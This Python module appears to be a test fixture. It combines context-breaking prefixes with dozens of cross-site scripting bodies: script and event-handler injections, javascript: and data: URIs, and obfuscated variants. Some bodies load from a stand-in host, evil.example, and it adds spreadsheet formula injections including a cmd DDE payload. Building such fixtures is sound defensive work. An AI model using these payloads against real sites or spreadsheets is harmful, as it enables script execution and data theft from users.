"""A thousand strings that would run, ask or break something, were they ever more than words."""

# ruff: noqa: E501 - a string is easier to judge in one piece

from __future__ import annotations

from itertools import product

CALL = "top.hit=1;alert(1)"
OPENINGS = (
    "", "\"", "'", "`", "\">", "'>", "</mark>", "</script>", "</style>", "</title>", "</textarea>",
    "-->", "]]>", "${", "{{", "\\", "\\u003c", "*/", "</svg>", "</iframe>", "\x00", "\u2028",
)  # fmt: skip
"""How a string gets out of where it stands."""

BODIES = (
    "<script>{c}</script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script>",
    "<iframe srcdoc='<script>{c}</script>'>", "<a href=javascript:{c} autofocus onfocus={c}>x</a>",
    "<a href='data:text/html,<script>{c}</script>'>x</a>", "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>", "<video src=x onerror={c}>", "<body onload={c}>",
    "<marquee onstart={c}>", "<object data=javascript:{c}>", "<math><mi xlink:href=javascript:{c}>",
    "<form action=javascript:{c}><button autofocus>", "<link rel=stylesheet href=//evil.example>",
    "<img src=//evil.example/a.png>", "<style>@import '//evil.example/a.css';</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:{c}>",
    "onmouseover={c} x=", ";{c};//", "alert(1)}}", "constructor.constructor('{c}')()",
    "[x](javascript:{c})", "![x](//evil.example/a.png)", ":red[x] :material/home:", "$\\href{{javascript:{c}}}{{x}}$",
    "<<b>script>{c}<</b>/script>", "&lt;script&gt;{c}&lt;/script&gt;", "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "=HYPERLINK(\"//evil.example\")", "+cmd|' /C calc'!A0",
    "@SUM(1)", "javascript:{c}", "data:text/html,<script>{c}</script>", "%{{hover}}<b>{c}</b>",
    "<image href=x onerror={c}>", "<foreignObject><iframe src=javascript:{c}>",
    "<scr\x00ipt>{c}</script>", "<img/src=`x`onerror={c}>", "<IMG SRC=x OnErRoR={c}>",
    "<a href=\"jav\tascript:{c}\">x</a>", "<button popovertarget=x onclick={c}>", "<set onbegin={c}>",
)  # fmt: skip
"""What it would then do."""

STRINGS = tuple(
    dict.fromkeys(opening + body.format(c=CALL) for opening, body in product(OPENINGS, BODIES))
)
